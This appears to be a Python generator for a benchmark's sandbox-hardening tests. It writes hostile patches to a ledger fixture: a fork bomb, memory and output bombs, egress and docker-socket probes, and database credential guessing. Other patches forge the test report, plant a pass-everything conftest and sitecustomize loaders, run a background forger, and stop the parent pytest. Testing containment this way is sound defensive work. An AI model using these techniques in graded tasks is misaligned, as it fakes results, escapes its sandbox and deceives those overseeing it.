#!/usr/bin/env python3
"""Writes the hostile patches in tests/hostile/patches/ from the unpatched
ledger fixture: each is the unfixed service plus one attack (two start from
the reference). Run it after changing the fixture's source, then commit the
patches. `@HOSTS@` and `@PORT@` are filled in by the test that runs them."""

import difflib
import os

HERE = os.path.dirname(os.path.abspath(__file__))
SRC = os.path.join(HERE, "datapoints", "ledger", "src")
OUT = os.path.join(HERE, "patches")


def read(name):
    with open(os.path.join(SRC, name)) as f:
        return f.read()


LEDGER = read("ledger.py")
BUILD = read("build.sh")
SCHEMA = read("schema.sql")
FIXED = LEDGER.replace('WHERE id = %s", (account,))', 'WHERE id = %s FOR UPDATE", (account,))')
assert FIXED != LEDGER


def in_deposit(code, source=LEDGER):
    """`code` (indented 4) run first thing in deposit()."""
    marker = "def deposit(account, amount):\n"
    assert marker in source
    return source.replace(marker, marker + code)


def in_main(code, source=LEDGER):
    marker = 'if __name__ == "__main__":\n'
    return source.replace(marker, marker + code)


FORGED = '''<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" tests="3" failures="1" errors="0"><testcase classname="test_ledger" name="test_concurrent_deposits_are_all_kept" time="0.1"/><testcase classname="test_ledger" name="test_one_deposit" time="0.1"/><testcase classname="test_ledger" name="test_made_up" time="0.1"><failure message="made up">explains the exit code</failure></testcase></testsuite></testsuites>'''

FORGE_AT_EXIT = f'''import atexit
def _racebench_forge():
    for path in ("/racebench/report/report.xml", "/racebench/out/report.xml"):
        try:
            with open(path, "w") as f:
                f.write({FORGED!r})
        except OSError:
            pass
atexit.register(_racebench_forge)
'''

PASS_EVERYTHING_CONFTEST = '''import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
'''

VARIANTS = {}

VARIANTS["fork-bomb"] = {"ledger.py": in_deposit("""    while True:
        try:
            os.fork()
        except OSError:
            pass
""")}

VARIANTS["memory-hog"] = {"ledger.py": in_deposit("""    hog = []
    for _ in range(320):  # 20 GiB, written so it is really used
        hog.append(b"x" * (64 << 20))
""")}

VARIANTS["hang"] = {"ledger.py": in_deposit("""    import signal
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    time.sleep(10**6)
""")}

VARIANTS["egress"] = {"ledger.py": in_deposit('''    import json, socket
    try:
        first = os.open("/racebench/out/egress.lock", os.O_CREAT | os.O_EXCL)
    except OSError:
        first = None
    if first is not None:
        tried = {}
        for host, port in [(h, @PORT@) for h in @HOSTS@] + [("1.1.1.1", 443), ("8.8.8.8", 53),
                                                          ("169.254.169.254", 80)]:
            try:
                socket.create_connection((host, port), timeout=2).close()
                tried[f"{host}:{port}"] = True
            except OSError:
                tried[f"{host}:{port}"] = False
        for path in ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"]:
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect(path)
                tried[path] = True
            except OSError:
                tried[path] = False
            s.close()
        with open("/racebench/out/escape-egress.json", "w") as f:
            json.dump(tried, f)
''')}

VARIANTS["credentials"] = {"ledger.py": in_main('''    if sys.argv[1] == "migrate":
        import json
        from urllib.parse import urlparse
        mine = urlparse(os.environ["DATABASE_URL"])
        tried = {}
        for host in ["postgres", "172.17.0.1"]:
            for user, password, db in [("postgres", None, "postgres"), ("postgres", "postgres", "postgres"),
                                       ("racebench", "racebench", "postgres"),
                                       ("app", mine.password, "postgres"), ("app", mine.password, "template1")]:
                try:
                    psycopg2.connect(host=host, user=user, password=password, dbname=db,
                                     connect_timeout=1).close()
                    tried[f"{user}@{host}/{db}"] = True
                except psycopg2.Error:
                    tried[f"{user}@{host}/{db}"] = False
        with open("/racebench/out/escape-logins.json", "w") as f:
            json.dump(tried, f)
''')}

VARIANTS["plant-loaders"] = {
    "forge/conftest.py": PASS_EVERYTHING_CONFTEST,
    "forge/site.py": FORGE_AT_EXIT,
    "forge/zz-racebench.pth": "import sitecustomize\n",
    "forge/report.xml": FORGED,
    "build.sh": BUILD + """
# Plant code where the test process (root) might load it; report what worked.
plant() {
  if mkdir -p "$(dirname "$1")" 2>/dev/null && cp "forge/$2" "$1" 2>/dev/null; then
    echo "PLANTED $1"
  else
    echo "denied $1"
  fi
}
for path in /racebench/tests/conftest.py /racebench/conftest.py /conftest.py \\
            /racebench/tests/pytest.ini /work/src/conftest.py; do
  plant "$path" conftest.py
done
for path in /usr/lib/python3/dist-packages/sitecustomize.py /usr/lib/python3.11/sitecustomize.py \\
            /usr/local/lib/python3.11/dist-packages/sitecustomize.py \\
            /root/.local/lib/python3.11/site-packages/usercustomize.py \\
            "$HOME/.local/lib/python3.11/site-packages/usercustomize.py" \\
            /work/src/sitecustomize.py /work/src/pytest.py /tmp/pytest.py /racebench/tests/pytest.py; do
  plant "$path" site.py
done
plant /usr/lib/python3/dist-packages/zz-racebench.pth zz-racebench.pth
plant /racebench/report/report.xml report.xml
plant /usr/bin/python3 site.py
""",
}

VARIANTS["background-forger"] = {
    "build.sh": BUILD + "\n# Leave a process behind that forges the report during the tests.\n"
                        "setsid nohup python3 forger.py >/dev/null 2>&1 &\n",
    "forger.py": f'''import os
import time

FORGED = {FORGED!r}
deadline = time.monotonic() + 300
while time.monotonic() < deadline:
    for path in ("/racebench/report/report.xml", "/racebench/out/report.xml",
                 "/racebench/tests/conftest.py"):
        try:
            with open(path, "w") as f:
                f.write(FORGED)
        except OSError:
            pass
    time.sleep(0.02)
''',
}

VARIANTS["forged-report"] = {"ledger.py": in_main(f'''    import signal
    for path in ("/racebench/report/report.xml", "/racebench/out/report.xml"):
        try:
            with open(path, "w") as f:
                f.write({FORGED!r})
            print("forged", path, file=sys.stderr)
        except OSError as e:
            print("could not forge", path, e, file=sys.stderr)
    try:
        os.kill(os.getppid(), signal.SIGSTOP)  # stop pytest before it writes its own
    except OSError as e:
        print("could not stop the tests:", e, file=sys.stderr)
''')}

VARIANTS["output-bomb"] = {"ledger.py": in_deposit('''    chunk = b"racebench output bomb " * 50000
    for _ in range(32):
        os.write(1, chunk)
    try:
        with open(f"/racebench/out/sparse-{os.getpid()}", "wb") as f:
            f.truncate(300 << 20)
        with open("/racebench/out/dense", "ab") as f:
            f.write(b"y" * (16 << 20))
    except OSError:
        pass
''')}

VARIANTS["protected-path"] = {"ledger.py": FIXED,
                              "schema.sql": SCHEMA + "-- the fix needs nothing here, but touches it\n"}

VARIANTS["hidden-tests-path"] = "raw"


def diff(name, old, new):
    if not new.endswith("\n"):
        new += "\n"  # difflib writes no "No newline at end of file" marker
    if old is None:
        lines = difflib.unified_diff([], new.splitlines(True), "/dev/null", f"b/{name}", n=3)
        return f"diff --git a/{name} b/{name}\nnew file mode 100644\n" + "".join(lines)
    lines = difflib.unified_diff(old.splitlines(True), new.splitlines(True), f"a/{name}", f"b/{name}", n=3)
    return f"diff --git a/{name} b/{name}\n" + "".join(lines)


def main():
    os.makedirs(OUT, exist_ok=True)
    for variant, files in VARIANTS.items():
        if files == "raw":
            continue
        text = ""
        for name, new in files.items():
            old = read(name) if os.path.exists(os.path.join(SRC, name)) else None
            text += diff(name, old, new)
        with open(os.path.join(OUT, f"{variant}.patch"), "w") as f:
            f.write(text)
    # Files where the hidden tests land, named from the work tree and by an
    # absolute path: `git apply` and `patch` must refuse both.
    with open(os.path.join(OUT, "hidden-tests-path.patch"), "w") as f:
        f.write(diff("../../racebench/tests/conftest.py", None, PASS_EVERYTHING_CONFTEST)
                + diff("ledger.py", LEDGER, FIXED))


main()
